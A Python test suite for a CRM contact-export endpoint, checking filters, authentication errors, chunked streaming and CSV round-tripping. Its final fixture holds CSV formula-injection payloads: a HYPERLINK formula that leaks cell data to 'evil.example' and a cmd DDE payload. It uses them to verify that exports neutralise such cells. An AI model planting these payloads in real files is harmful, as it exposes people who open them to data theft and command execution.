"""GET /export/contacts.csv: any filter, the same auth as /graphql, streamed in chunks."""

from __future__ import annotations

import csv
import io
import json
import shutil
from urllib.parse import quote

from api.bootstrap import unit_of_work_factory
from domain.csv_rows import IMPORT_FIELDS
from persistence.db import Database
from services import companies, csv_io, tags

PEOPLE = (
    "email,first_name,last_name,phone,job_title,contact_type,source,funnel_stage,sector,"
    "region,city,country,company,custom_attributes,consent_email,consent_profiling\n"
    'anna@x.it,Anna,"Verdi, jr",+39 06 1234567,CTO,CLIENT,EVENT,DECISION,ICT,Lazio,Roma,IT,'
    'Acme Srl,"{""plan"": ""pro"", ""seats"": 3}",true,false\n'
    'bruno@x.it,Bruno "Bo",,,,PROSPECT,WEB,AWARENESS,Retail,Puglia,Bari,IT,,,false,true\n'
    "carla@x.it,Carla,Neri,,,,,,,,Milano,,,,,\n"
)


async def seed(uows, now, text=PEOPLE):
    await companies.create_company(uows, {"name": "Acme Srl"}, now)
    report = await csv_io.import_contacts(uows, io.StringIO(text, newline=""), now)
    assert report.applied and report.rejected == 0, report.problems


async def export(client, key, filter=None):
    url = "/export/contacts.csv"
    if filter is not None:
        url += "?filter=" + quote(json.dumps(filter))
    return await client.get(url, headers={"authorization": f"Bearer {key}"} if key else {})


def rows(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


async def test_every_contact_is_exported_with_a_header(client, uows, clock, read_key):
    await seed(uows, clock())

    response = await export(client, read_key)

    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert "attachment" in response.headers["content-disposition"]
    found = rows(response.text)
    assert [r["email"] for r in found] == ["anna@x.it", "bruno@x.it", "carla@x.it"]
    anna = found[0]
    assert (anna["company"], anna["last_name"], anna["tier"]) == ("Acme Srl", "Verdi, jr", "Tier 1")
    assert json.loads(anna["custom_attributes"]) == {"plan": "pro", "seats": 3}
    assert found[1]["first_name"] == 'Bruno "Bo"'


async def test_tags_are_exported_strongest_first(client, uows, clock, read_key):
    await seed(uows, clock())
    for name in ("Webinar", "Pricing"):
        await tags.create_tag(uows, name, None, None, clock())
    for code in ("pricing", "webinar", "pricing"):
        await tags.assign_tag(uows, 1, code, clock())

    found = rows((await export(client, read_key)).text)

    assert found[0]["tags"] == "pricing;webinar" and found[1]["tags"] == ""


async def test_the_filter_is_applied(client, uows, clock, read_key):
    await seed(uows, clock())

    found = rows((await export(client, read_key, {"or": [{"cityIn": ["Bari"]},
                                                          {"sourceIn": ["EVENT"]}]})).text)  # fmt: skip

    assert [r["email"] for r in found] == ["anna@x.it", "bruno@x.it"]


async def test_a_filter_matching_nobody_gives_only_the_header(client, uows, clock, read_key):
    await seed(uows, clock())

    response = await export(client, read_key, {"cityIn": ["Atlantide"]})

    assert response.status_code == 200 and response.text.startswith("id,email,")
    assert rows(response.text) == []


async def test_a_bad_filter_is_400_bad_user_input(client, read_key):
    cases = [
        "not json",
        json.dumps({"shoeSize": 42}),
        json.dumps({"scoreAbove": "lots"}),
        json.dumps({"sourceIn": ["CARRIER_PIGEON"]}),
        json.dumps({"scoreBetween": {"min": 9, "max": 1}}),
    ]
    for raw in cases:
        response = await client.get(
            "/export/contacts.csv",
            params={"filter": raw},
            headers={"authorization": f"Bearer {read_key}"},
        )

        assert response.status_code == 400, raw
        error = response.json()["errors"][0]
        assert error["extensions"] == {"code": "BAD_USER_INPUT", "field": "filter"}, raw
        assert error["message"], raw


async def test_no_key_or_a_bad_key_is_401_unauthenticated(client):
    for key in (None, "sk_nope"):
        response = await export(client, key)

        assert response.status_code == 401
        assert response.headers["www-authenticate"] == "Bearer"
        assert response.json()["errors"][0]["extensions"]["code"] == "UNAUTHENTICATED"


async def test_the_export_is_streamed_in_chunks(app, uows, clock, read_key, monkeypatch):
    await seed(uows, clock())
    monkeypatch.setattr(csv_io, "CHUNK", 2)
    messages = []
    scope = {
        "type": "http", "asgi": {"version": "3.0", "spec_version": "2.4"},
        "http_version": "1.1", "method": "GET", "scheme": "http", "path": "/export/contacts.csv",
        "raw_path": b"/export/contacts.csv", "query_string": b"", "root_path": "",
        "headers": [(b"host", b"t"), (b"authorization", f"Bearer {read_key}".encode())],
        "client": ("127.0.0.1", 1), "server": ("t", 80),
    }  # fmt: skip

    async def receive():
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message):
        messages.append(message)

    await app(scope, receive, send)

    start, *bodies = messages
    headers = dict(start["headers"])
    assert start["status"] == 200 and b"content-length" not in headers
    chunks = [m["body"] for m in bodies if m["body"]]
    assert len(chunks) == 3  # the header, then contacts 1-2, then contact 3
    assert [r["email"] for r in rows(b"".join(chunks).decode())] == [
        "anna@x.it", "bruno@x.it", "carla@x.it",
    ]  # fmt: skip


async def test_an_export_imported_into_a_fresh_database_gives_the_same_contacts(
    client, uows, clock, read_key, sqlite_template, tmp_path
):
    await seed(uows, clock())
    exported = (await export(client, read_key)).text
    path = tmp_path / "fresh.db"
    shutil.copy(sqlite_template, path)
    db = Database(f"sqlite+aiosqlite:///{path}")
    try:
        fresh = unit_of_work_factory(db)
        await companies.create_company(fresh, {"name": "Acme Srl"}, clock())
        report = await csv_io.import_contacts(fresh, io.StringIO(exported, newline=""), clock())
        again = "".join([piece async for piece in csv_io.export_contacts(fresh, None, clock())])
    finally:
        await db.dispose()

    assert (report.applied, report.created, report.rejected) == (True, 3, 0)
    assert "tags" in report.skipped_columns and "score" in report.skipped_columns
    portable = [c for c in IMPORT_FIELDS if c != "company_id"] + ["tier", "segment", "lead_status"]
    assert [{c: r[c] for c in portable} for r in rows(again)] == [
        {c: r[c] for c in portable} for r in rows(exported)
    ]


async def test_a_list_is_exported_and_an_unknown_list_is_404(client, uows, clock, read_key):
    from domain.filters import ContactFilter
    from domain.lists import ListKind
    from services import lists

    await seed(uows, clock())
    south = await lists.create_list(
        uows, "South", ListKind.DYNAMIC, ContactFilter(region_in=("Puglia", "Lazio")), None, clock()
    )
    hand = await lists.create_list(uows, "Picked", ListKind.STATIC, None, None, clock())
    carla = (await uows_contact(uows, "carla@x.it")).id
    await lists.change_members(uows, hand.id, [carla], True, clock())
    headers = {"authorization": f"Bearer {read_key}"}

    dynamic = await client.get(f"/export/contacts.csv?list={south.id}", headers=headers)
    assert [r["email"] for r in rows(dynamic.text)] == ["anna@x.it", "bruno@x.it"]
    both = await client.get(
        f"/export/contacts.csv?list={south.id}&filter="
        + quote(json.dumps({"regionIn": ["Lazio"]})),
        headers=headers,
    )
    assert [r["email"] for r in rows(both.text)] == ["anna@x.it"]
    static = await client.get(f"/export/contacts.csv?list={hand.id}", headers=headers)
    assert [r["email"] for r in rows(static.text)] == ["carla@x.it"]
    missing = await client.get("/export/contacts.csv?list=999", headers=headers)
    assert missing.status_code == 404
    assert missing.json()["errors"][0]["extensions"]["code"] == "NOT_FOUND"
    bad = await client.get("/export/contacts.csv?list=abc", headers=headers)
    assert bad.status_code == 400


async def uows_contact(uows, email):
    async with uows() as uow:
        return await uow.contacts.get_by_email(email)


FORMULAS = (
    "email,first_name,last_name,job_title,city,custom_attributes\n"
    'eve@x.it,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",'
    '"-2+3+cmd|\' /C calc\'!A0",@SUM(1+1),+39,"{""note"": ""=1+1""}"\n'
)
EVE = {
    "first_name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "last_name": "-2+3+cmd|' /C calc'!A0",
    "job_title": "@SUM(1+1)",
    "city": "+39",
}


async def test_formula_cells_are_neutralised_unless_raw_and_reimport_restores_them(
    client, uows, clock, read_key, sqlite_template, tmp_path
):
    await seed(uows, clock(), FORMULAS)
    headers = {"authorization": f"Bearer {read_key}"}

    safe = await client.get("/export/contacts.csv", headers=headers)
    raw = await client.get("/export/contacts.csv?raw=true", headers=headers)
    bad = await client.get("/export/contacts.csv?raw=maybe", headers=headers)

    eve = rows(safe.text)[0]
    assert {k: eve[k] for k in EVE} == {k: "'" + v for k, v in EVE.items()}
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in eve.values())
    assert {k: rows(raw.text)[0][k] for k in EVE} == EVE
    assert bad.status_code == 400 and bad.json()["errors"][0]["extensions"]["field"] == "raw"
    path = tmp_path / "fresh.db"
    shutil.copy(sqlite_template, path)
    db = Database(f"sqlite+aiosqlite:///{path}")
    try:
        fresh = unit_of_work_factory(db)
        report = await csv_io.import_contacts(fresh, io.StringIO(safe.text, newline=""), clock())
        async with fresh() as uow:
            stored = await uow.contacts.get_by_email("eve@x.it")
    finally:
        await db.dispose()
    assert (report.created, report.rejected) == (1, 0), report.problems
    assert stored is not None
    assert {k: getattr(stored, k) for k in EVE} == EVE
    assert stored.custom_attributes == {"note": "=1+1"}
